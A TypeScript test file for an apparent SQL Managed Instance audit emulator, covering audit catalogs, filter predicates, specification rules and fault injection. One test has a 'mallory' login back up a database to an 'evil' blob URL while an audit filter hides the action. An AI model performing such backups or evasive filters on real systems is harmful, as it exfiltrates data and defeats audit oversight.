import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { ConnectionDropped } from "../../emulator/sql/contracts.js";
import { codeNumber } from "../../emulator/mi/audit-filter.js";
import { miStateSchema } from "../../emulator/mi/state-schema.js";
import { fails, ok, run, setup } from "../support/mi-engine-harness.js";

// Audit semantics from the documentation: "sys.server_file_audits (Transact-SQL)", "sys.dm_server_audit_status
// (Transact-SQL)", "CREATE SERVER AUDIT" / "ALTER SERVER AUDIT" (WHERE, REMOVE WHERE), "DROP SERVER AUDIT
// SPECIFICATION", and the fleet's sql: block expressing every audit the engine allows.
const URL_AUDIT = { name: "to-blob", target: { type: "URL" as const, path: "https://acct.blob.core.windows.net/sqldbauditlogs", retentionDays: 30 }, enabled: true };
const EM_AUDIT = { name: "to-monitor", target: "EXTERNAL_MONITOR" as const, enabled: true };

describe("MI audit catalog", () => {
  it("sys.server_file_audits has the documented columns and types; URL audits are listed with their container, EXTERNAL_MONITOR audits are not", async () => {
    const { session } = setup({ audits: [URL_AUDIT, EM_AUDIT] });
    const out = await run(session(), "SELECT * FROM sys.server_file_audits");
    assert.equal(out[0]!.kind, "rows");
    if (out[0]!.kind !== "rows") return;
    const { columns, rows } = out[0]!.resultSet;
    const types = columns.map((c) => `${c.name}:${c.type.kind}${"length" in c.type ? `(${c.type.length})` : ""}`);
    // The page's table, in order; retention_days (URL audits' RETENTION_DAYS) is the emulator's addition, [unverified].
    assert.deepEqual(types, [
      "audit_id:int", "name:nvarchar(128)", "audit_guid:uniqueidentifier", "create_date:datetime", "modify_date:datetime", "principal_id:int",
      "type:char(2)", "type_desc:nvarchar(60)", "on_failure:tinyint", "on_failure_desc:nvarchar(60)", "is_state_enabled:tinyint", "queue_delay:int",
      "predicate:nvarchar(8000)", "max_file_size:bigint", "max_rollover_files:int", "max_files:int", "reserved_disk_space:int",
      "log_file_path:nvarchar(260)", "log_file_name:nvarchar(260)", "retention_days:int",
    ]);
    assert.equal(rows.length, 1);
    const row = Object.fromEntries(columns.map((c, i) => [c.name, rows[0]![i]]));
    assert.equal(row.name, "to-blob");
    assert.equal(row.log_file_path, "https://acct.blob.core.windows.net/sqldbauditlogs");
    assert.equal(row.retention_days, 30);
  });

  it("sys.dm_server_audit_status: a started URL audit's audit_file_path is its current .xel file; stopped, the audit keeps its row with NOT_STARTED and a NULL path", async () => {
    const { session } = setup({ audits: [URL_AUDIT] });
    const s = session();
    let [r] = await ok(s, "SELECT status, status_desc, audit_file_path FROM sys.dm_server_audit_status");
    assert.equal(r!.status_desc, "STARTED");
    const path = String(r!.audit_file_path);
    assert.ok(path.startsWith("https://acct.blob.core.windows.net/sqldbauditlogs/mi-test/master/to-blob/2026-11-24/"), path);
    assert.match(path, /\.xel$/);
    await ok(s, "ALTER SERVER AUDIT [to-blob] WITH (STATE = OFF)");
    [r] = await ok(s, "SELECT status, status_desc, audit_file_path FROM sys.dm_server_audit_status");
    // "Returns a row for each server audit": status 0 NOT_STARTED (the DMV page's status list).
    assert.deepEqual(r, { status: 0, status_desc: "NOT_STARTED", audit_file_path: null });
  });
});

describe("MI audit filters (WHERE)", () => {
  it("CREATE/ALTER … WHERE store the predicate normalised; ALTER … WHERE and REMOVE WHERE need the audit OFF (33071)", async () => {
    const { session } = setup();
    const s = session();
    await ok(s, "CREATE SERVER AUDIT f TO EXTERNAL_MONITOR WHERE server_principal_name <> 'mallory' AND database_name = N'sales'");
    let [r] = await ok(s, "SELECT predicate FROM sys.server_audits WHERE name = 'f'");
    assert.equal(r!.predicate, "(([server_principal_name]<>'mallory') AND ([database_name]=N'sales'))");
    await ok(s, "ALTER SERVER AUDIT f WHERE [succeeded] = 1");
    [r] = await ok(s, "SELECT predicate FROM sys.server_audits WHERE name = 'f'");
    assert.equal(r!.predicate, "([succeeded]=(1))");
    await ok(s, "ALTER SERVER AUDIT f WITH (STATE = ON)");
    await fails(s, "ALTER SERVER AUDIT f WHERE succeeded = 0", 33071);
    await fails(s, "ALTER SERVER AUDIT f REMOVE WHERE", 33071);
    await ok(s, "ALTER SERVER AUDIT f WITH (STATE = OFF)");
    await ok(s, "ALTER SERVER AUDIT f REMOVE WHERE");
    [r] = await ok(s, "SELECT predicate FROM sys.server_audits WHERE name = 'f'");
    assert.equal(r!.predicate, null);
  });

  it("an unknown field is 25706; text for a field the event holds as a number (class_type, action_id) is 25713; neither changes anything", async () => {
    const { session, engine } = setup();
    const s = session();
    await fails(s, "CREATE SERVER AUDIT f TO EXTERNAL_MONITOR WHERE no_such_field = 1", 25706, 'The event attribute or predicate source, "no_such_field", could not be found.');
    await fails(s, "CREATE SERVER AUDIT f TO EXTERNAL_MONITOR WHERE class_type = 'DB'", 25713, /"class_type", event, "audit_event", is invalid/);
    await fails(s, "CREATE SERVER AUDIT f TO EXTERNAL_MONITOR WHERE action_id = 'BA'", 25713);
    await fails(s, "CREATE SERVER AUDIT f TO EXTERNAL_MONITOR WHERE server_principal_name <> ", 102);
    assert.equal(engine.audits.size, 0);
  });

  it("physics: a record the predicate excludes is not written — WHERE server_principal_name <> 'mallory' hides mallory's backups, not the DBA's", async () => {
    const { session, records } = setup({
      logins: [
        { name: "dba", password: "test-only-pw-1", permissions: ["sysadmin"] },
        { name: "mallory", password: "test-only-pw-4", permissions: ["CONTROL SERVER"] },
      ],
      databases: [{ name: "sales" }],
      audits: [{ name: "a", target: "EXTERNAL_MONITOR", enabled: true, predicate: "server_principal_name <> 'mallory'" }],
      serverAuditSpecifications: [{ name: "s", audit: "a", enabled: true, actionGroups: ["BACKUP_RESTORE_GROUP"] }],
    });
    await ok(session("mallory"), "BACKUP DATABASE sales TO URL = 'https://evil.blob.core.windows.net/x/sales.bak' WITH COPY_ONLY");
    await ok(session("dba"), "BACKUP DATABASE sales TO URL = 'https://acct.blob.core.windows.net/b/sales.bak' WITH COPY_ONLY");
    assert.deepEqual(records.map((r) => r.server_principal_name), ["dba"]);
  });

  it("physics: action_id and class_type filter by their numeric form, so a backup-only exclusion still records restores", async () => {
    const BA = codeNumber("BA", 4);
    const { session, records } = setup({
      audits: [{ name: "a", target: "EXTERNAL_MONITOR", enabled: true, predicate: `action_id <> ${BA}` }],
      serverAuditSpecifications: [{ name: "s", audit: "a", enabled: true, actionGroups: ["BACKUP_RESTORE_GROUP"] }],
    });
    const s = session();
    await ok(s, "BACKUP DATABASE sales TO URL = 'https://acct.blob.core.windows.net/b/sales.bak' WITH COPY_ONLY");
    await ok(s, "RESTORE DATABASE sales2 FROM URL = 'https://acct.blob.core.windows.net/b/sales.bak'");
    assert.deepEqual(records.map((r) => r.action_id), ["RS"]);
  });
});

describe("MI audit specification rules", () => {
  it("an enabled server audit specification cannot be dropped (\"set the state … to OFF … before it can be dropped\"); disabled, it can", async () => {
    const { session, engine } = setup({ audits: [EM_AUDIT], serverAuditSpecifications: [{ name: "spec", audit: "to-monitor", enabled: true, actionGroups: ["AUDIT_CHANGE_GROUP"] }] });
    const s = session();
    await fails(s, "DROP SERVER AUDIT SPECIFICATION spec", 33229);
    assert.equal(engine.specs.size, 1);
    await ok(s, "ALTER SERVER AUDIT SPECIFICATION spec WITH (STATE = OFF)");
    await ok(s, "DROP SERVER AUDIT SPECIFICATION spec");
    assert.equal(engine.specs.size, 0);
  });
});

describe("MI injected statement failures (sql.faults)", () => {
  it("an error fault fails the matching statement `times` times with the engine's own message, then the statement runs", async () => {
    const { session, engine } = setup({ faults: [{ statement: "^CREATE SERVER AUDIT\\b", error: 33227, times: 1 }] });
    const s = session();
    await fails(s, "CREATE SERVER AUDIT x TO EXTERNAL_MONITOR", 33227, "The specified value for QUEUE_DELAY is not valid. Specify either 0 or 1000 and higher.");
    assert.equal(engine.audits.size, 0);
    await ok(s, "CREATE SERVER AUDIT x TO EXTERNAL_MONITOR");
    assert.equal(engine.audits.size, 1);
  });

  it('"drop-connection" closes before the statement runs; "no-reply" runs it and closes before the reply', async () => {
    const { session, engine } = setup({
      faults: [
        { statement: "CREATE SERVER AUDIT dropped", error: "drop-connection" },
        { statement: "CREATE SERVER AUDIT unanswered", error: "no-reply" },
      ],
    });
    await assert.rejects(run(session(), "CREATE SERVER AUDIT dropped TO EXTERNAL_MONITOR"), (e: unknown) => e instanceof ConnectionDropped && !e.ran);
    await assert.rejects(run(session(), "CREATE SERVER AUDIT unanswered TO EXTERNAL_MONITOR"), (e: unknown) => e instanceof ConnectionDropped && e.ran);
    assert.deepEqual([...engine.audits.values()].map((a) => a.name), ["unanswered"]);
  });
});

describe("the fleet's sql: block", () => {
  it("expresses every audit the engine allows, specifications bound to any audit with any groups and state, and faults", () => {
    const state = miStateSchema.parse({
      audits: [
        { name: "em", target: "EXTERNAL_MONITOR", enabled: false, queueDelay: 0, onFailure: "FAIL_OPERATION", status: "RUNTIME_FAIL", predicate: "NOT (server_principal_name LIKE 'Azure%')" },
        { name: "url", target: { type: "URL", path: "https://acct.blob.core.windows.net/c", retentionDays: 90 }, enabled: true, queueDelay: 5000, operatorAudit: true, guid: "0f6d1c7e-3f0a-4b8e-9a55-2b1c9d3e4f50" },
      ],
      serverAuditSpecifications: [{ name: "s", audit: "url", enabled: false, actionGroups: ["FAILED_LOGIN_GROUP", "AUDIT_CHANGE_GROUP"] }],
      faults: [{ statement: "^ALTER SERVER AUDIT", error: "no-reply", times: 2 }],
    });
    assert.equal(state.audits.length, 2);
    assert.equal(state.faults[0]!.error, "no-reply");
  });

  it("refuses a predicate the engine would refuse, and a fault whose statement is not a regular expression, naming the path", () => {
    const bad = miStateSchema.safeParse({ audits: [{ name: "a", target: "EXTERNAL_MONITOR", predicate: "nope = 1" }], faults: [{ statement: "(", error: 1205 }] });
    assert.equal(bad.success, false);
    const paths = bad.error.issues.map((i) => i.path.join("."));
    assert.ok(paths.includes("audits.0.predicate"), paths.join(", "));
    assert.ok(paths.includes("faults.0.statement"), paths.join(", "));
  });
});
